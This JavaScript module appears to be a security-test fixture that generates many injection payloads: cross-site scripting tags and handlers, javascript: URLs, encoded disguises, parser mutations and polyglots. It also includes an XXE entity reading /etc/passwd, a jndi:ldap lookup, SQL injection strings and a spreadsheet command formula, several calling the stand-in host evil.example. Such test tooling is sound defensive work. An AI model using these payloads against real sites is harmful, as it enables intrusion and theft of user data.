// Hostile texts: the ways we know to make a page run, fetch or show what somebody merely typed.
// A payload is written around a mark such as `zan17z`. The mark tells which field a payload was planted in, both when
// the page shows it and when, against all hope, it runs: then `__hit(/zan17z/)` is called.

/// Elements that run or fetch something by themselves, around a call of ours.
const ELEMENTS = [
  js => `<script>${js}</script>`,
  () => '<script src=//evil.example/x.js></script>',
  js => `<script src="data:text/javascript,${js}"></script>`,
  js => `<script type=module>${js}</script>`,
  () => '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
  () => '<script type=importmap>{"imports":{"./keys.js":"//evil.example/"}}</script>',
  js => `<img src=x onerror=${js}>`,
  js => `<img src=x onerror="${js}">`,
  js => `<image href=x onerror=${js}>`,
  js => `<img srcset=x onerror=${js}>`,
  () => '<img src=//evil.example/pixel.gif>',
  js => `<svg onload=${js}>`,
  js => `<svg><script>${js}</script></svg>`,
  js => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  js => `<svg><set attributeName=onmouseover to=${js}>`,
  js => `<svg><a href="javascript:${js}"><rect width=9 height=9 /></a></svg>`,
  js => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  js => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x">`,
  js => `<math><a href="javascript:${js}">m</a></math>`,
  js => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  js => `<math><maction actiontype=statusline href=javascript:${js}>m</maction></math>`,
  js => `<body onload=${js}>`,
  js => `<body onpageshow=${js}>`,
  js => `<frameset onload=${js}>`,
  js => `<iframe src="javascript:${js}">`,
  js => `<iframe srcdoc="<script>parent.${js}</script>">`,
  js => `<iframe srcdoc='<img src=x onerror=parent.${js}>'>`,
  js => `<iframe onload=${js}>`,
  js => `<object data="javascript:${js}">`,
  () => '<object data=//evil.example/x.swf>',
  js => `<embed src="javascript:${js}">`,
  js => `<audio src=x onerror=${js}>`,
  js => `<video><source onerror=${js}></video>`,
  js => `<video poster=javascript:${js}>`,
  js => `<details open ontoggle=${js}>`,
  js => `<marquee onstart=${js}>`,
  js => `<input autofocus onfocus=${js}>`,
  js => `<select autofocus onfocus=${js}>`,
  js => `<textarea autofocus onfocus=${js}>`,
  js => `<button formaction=javascript:${js} autofocus>b`,
  js => `<form action=javascript:${js}><input type=submit>`,
  () => '<form action=//evil.example/><input name=csrf>',
  js => `<isindex action=javascript:${js} type=submit>`,
  js => `<a href=javascript:${js} autofocus>a`,
  js => `<area href=javascript:${js}>`,
  () => '<base href=//evil.example/>',
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => '<link rel=prefetch href=//evil.example/>',
  () => '<meta http-equiv=refresh content="0;url=//evil.example/">',
  js => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  () => '<meta http-equiv=Content-Security-Policy content="script-src *">',
  () => '<style>@import "//evil.example/x.css";</style>',
  () => '<style>*{background:url(//evil.example/x)}</style>',
  js => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  js => `<dialog open onclose=${js}><form method=dialog><button autofocus>x`,
  js => `<div popover id=q onbeforetoggle=${js}></div><button popovertarget=q>q`,
  js => `<xss contenteditable tabindex=1 autofocus onfocus=${js}>`,
  js => `<div hx-get=/today hx-trigger=load hx-on:htmx:load="${js}">`,
  js => `<div hx-on::after-request="${js}" hx-get=/ hx-trigger=load>`,
  () => '<div data-hx-get=//evil.example/ data-hx-trigger=load>',
  () => '<hx-partial hx-target=body><h1>evil</h1></hx-partial>',
  js => `<p style="animation:x" onanimationstart=${js}>`,
];

/// Where a text may stand, and what leads out of there.
const WAYS_OUT = [
  html => html,
  html => `">${html}`,
  html => `'>${html}`,
  html => `x >${html}`,
  html => `--><!-- -->${html}`,
  html => `--!>${html}`,
  html => `]]>${html}`,
  html => `?>${html}`,
  html => `</script>${html}`,
  html => `</style>${html}`,
  html => `</title>${html}`,
  html => `</textarea>${html}`,
  html => `</option></select>${html}`,
  html => `</noscript>${html}`,
  html => `</template></iframe></xmp>${html}`,
  html => `</svg></math>${html}`,
  html => `"}]}</script>${html}`,
  html => `\u2028${html}\u2029`,
  html => `<scr<script>ipt>${html}`,
  html => `<!--><!--${html}`,
];

/// Handlers an attribute can be left for, when quotes do not hold.
const HANDLERS = `abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
  beforematch beforepaste beforetoggle beforeunload blur canplay change click close command contextmenu copy cuechange cut dblclick
  drag dragend dragenter dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata
  fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart
  message mousedown mouseenter mouseleave mousemove mouseover mouseup pageshow paste play pointerdown pointerenter pointermove pointerover
  pointerrawupdate popstate progress resize scroll scrollend search select selectionchange selectstart snapchanged storage submit
  toggle touchend touchstart transitionend transitionrun transitionstart unload volumechange wheel`.split(/\s+/);

const OUT_OF_QUOTES = [
  (on, js) => `" on${on}=${js} tabindex=1 autofocus x="`,
  (on, js) => `' on${on}=${js} tabindex=1 autofocus x='`,
  (on, js) => `x on${on}=${js} tabindex=1 autofocus`,
];

/// Addresses that run something when they are followed or fetched.
const ADDRESSES = [
  js => `javascript:${js}`, js => `JaVaScRiPt:${js}`, js => `java\tscript:${js}`, js => `java\nscript:${js}`,
  js => `\u00a0javascript:${js}`, js => `javascript://%0a${js}`, js => `javascript:void(${js})`, js => `javascript&colon;${js}`,
  js => `&#106;avascript:${js}`, js => `&#x6A&#x61vascript:${js}`, js => `jav&Tab;ascript:${js}`, js => `vbscript:${js}`,
  js => `livescript:${js}`, js => `view-source:javascript:${js}`, js => `feed:javascript:${js}`,
  js => `data:text/html,<script>${js}</script>`, js => `data:text/html;base64,PHNjcmlwdD4=${js}`,
  js => `data:image/svg+xml,<svg onload=${js}>`, js => `data:application/javascript,${js}`, js => `blob:${js}`,
  js => `//evil.example/${js}`, js => `/\\evil.example/${js}`, js => `https:evil.example/${js}`, js => `http://evil.example@127.0.0.1/${js}`,
  js => `mailto:a@b.example?body=<script>${js}</script>`, js => `filesystem:javascript:${js}`,
];

/// The same angle brackets and quotes, written so that a careless reader makes them whole again.
const encode = (text, each) => text.replace(/[<>"'=()/]/g, each);
const hex = char => char.charCodeAt(0).toString(16).padStart(2, '0');
const DISGUISES = [
  text => encode(text, char => `&#${char.charCodeAt(0)};`),
  text => encode(text, char => `&#x${hex(char)};`),
  text => encode(text, char => `&#0000${char.charCodeAt(0)}`),
  text => encode(text, char => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' }[char] ?? char)),
  text => encode(text, char => `&amp;#${char.charCodeAt(0)};`),
  text => encode(text, char => `%${hex(char)}`),
  text => encode(text, char => `%25${hex(char)}`),
  text => encode(text, char => `\\u00${hex(char)}`),
  text => encode(text, char => `\\x${hex(char)}`),
  text => encode(text, char => `\\${char.charCodeAt(0).toString(8)}`),
  text => encode(text, char => `%c0%${(char.charCodeAt(0) | 0x80).toString(16)}`),
  text => encode(text, char => `%u00${hex(char)}`),
  text => encode(text, char => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  text => encode(text, char => ({ '<': '+ADw-', '>': '+AD4-', '"': '+ACI-' }[char] ?? char)),
  text => encode(text, char => ({ '<': '\u2039', '>': '\u203a', '"': '\u201d', "'": '\u02bc' }[char] ?? char)),
  text => text.toUpperCase().replace(/Z[A-Z]{2}\d+Z/g, mark => mark.toLowerCase()).replace('__HIT', '__hit'),
];
const DISGUISED = [js => `<script>${js}</script>`, js => `<img src=x onerror=${js}>`, js => `"><svg onload=${js}>`];

/// What parsers read twice, and not the same both times.
const MUTANTS = [
  js => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  js => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  js => `<listing>&lt;img onerror=${js} src=x&gt;</listing>`,
  js => `<img alt="\`><img src=xx:x onerror=${js}//">`,
  js => `<a/href="j&Tab;a&Tab;vascript:${js}">x</a>`,
  js => `<svg/onload=${js}`,
  js => `<<svg onload=${js}//`,
  js => `<svg\tonload\n=\n${js}>`,
  js => `<a\u00a0href=javascript:${js}>`,
  js => `<xmp><p title="</xmp><svg/onload=${js}>">`,
  js => `<select><style></select><img src=x onerror=${js}></style>`,
  js => `<title><a title="</title><img src=x onerror=${js}>">`,
  js => `<svg><style>&lt;img src=x onerror=${js}&gt;</style>`,
  js => `<svg><![CDATA[><img src=x onerror=${js}>]]>`,
  js => `<%<!--'%><script>${js}</script -->`,
  js => `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;<x>${js}</x>`,
];

/// Marks of template and expression languages, and of our own.
const TEMPLATES = [
  '{{7*7}}', '{{constructor.constructor("return 1")()}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% raw %}', '{%- include "base.html" -%}', '{{ page.csrf }}',
  '{{{7*7}}}', '[[7*7]]', '@(7*7)', '*{7*7}', '~{7*7}', '{$name}', '{ $name }', '{ NUMBER($n) }', '{"a": 1}', '%s%n%x', '{0}', '__proto__',
  '<?php echo 7*7 ?>', '#set($x=7*7)', '`${7*7}`', '${jndi:ldap://evil.example/x}', "'; drop table tasks; --", '" or 1=1 --', '\\"; exit', '=cmd|\'/c calc\'!A1', '@SUM(1+1)', '+1+1',
];

/// Styles, and what styles were once allowed to run.
const STYLES = [
  js => `x" style="background:url(//evil.example/x)`, js => `x' style='behavior:url(#x)`, js => `;background:url(javascript:${js})`,
  js => `expression(${js})`, js => `}*{background:url(//evil.example/)}`, js => `</style><svg onload=${js}>`,
  js => `@import'//evil.example/'`, js => `{}body{visibility:hidden}`, js => `-moz-binding:url(//evil.example/)`, js => `\\3csvg onload=${js}\\3e`,
];

/// One text for many places.
const POLYGLOTS = [
  js => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(${js})//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>`,
  js => `"'>--></style></script></textarea></title><svg/onload=${js}>`,
  js => `';${js}//";${js}//\`;${js}//--></script><script>${js}</script>`,
  js => `"onclick=${js}//<button ' onclick=${js}//> */ ${js}//`,
  js => `-->'"/></sCript><svG x=">" onload=(${js})>`,
  js => `{{'"}}\${"'}<svg/onload=${js}>`,
  js => `\\"-${js}}//</script>`,
  js => `*/${js}/*'/*"/*\\'/*\\"/*--></noscript><a href=javascript:${js}>`,
];

/// Letters that hide, turn or break a line.
const LETTERS = [
  ['\u202e', '\u202c'], ['\u202d', '\u202c'], ['\u2066', '\u2069'], ['\u2067', '\u2069'], ['\u2068', '\u2069'], ['\u200f', '\u200e'],
  ['\u2028', '\u2029'], ['\ufeff', '\ufeff'], ['\u200b\u200d', '\u2060'], ['\u0301'.repeat(30), ''], ['\ufffb', '\ufffc'], ['\u{e0001}', '\u{e007f}'],
  ['한글\u115f', 'ㅤ'], ['ﷺ', '𒐫'], ['\u{1f9e8}\u{1f469}\u200d\u{1f469}', '\u{1f1f0}\u{1f1f7}'], ['A\u030a', '\u212b'],
];

function all() {
  const made = [];
  const add = (kind, write) => made.push({ kind, write });
  WAYS_OUT.forEach((out, at) => ELEMENTS.forEach((element, n) => {
    if ((at + n) % 5 === 0) add('element', js => out(element(js)));
  }));
  HANDLERS.forEach((on, n) => OUT_OF_QUOTES.forEach((out, at) => {
    if ((at + n) % 2 === 0) add('handler', js => out(on, js));
  }));
  DISGUISES.forEach(disguise => DISGUISED.forEach(element => add('disguise', js => disguise(element(js)))));
  for (const write of [...ADDRESSES, ...MUTANTS, ...STYLES, ...POLYGLOTS]) add('parser', write);
  for (const text of TEMPLATES) add('template', () => text);
  for (const [before, after] of LETTERS) add('letters', js => `${before}<b>${js}</b>${after}`);
  const distinct = new Map(made.map(({ kind, write }) => [write(''), { kind, write }]));
  return [...distinct.values()].map(({ kind, write }) => ({
    kind,
    /// The payload around a mark, which it ends with where it has no call to hold it.
    text(mark) {
      const text = write(`__hit(/${mark}/)`);
      return text.includes(mark) ? text : `${text} ${mark}`;
    },
  }));
}

export const PAYLOADS = all();

/// What no text may hold: each is refused, and told so.
export const CONTROLS = ['\0', '\u0001', '\u0008', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085', '\u009c'];

/// The mark of a payload in a field, whose name is two letters.
export const mark = (field, n) => `z${field}${n}z`;
export const MARKS = /z[a-z]{2}\d+z/g;
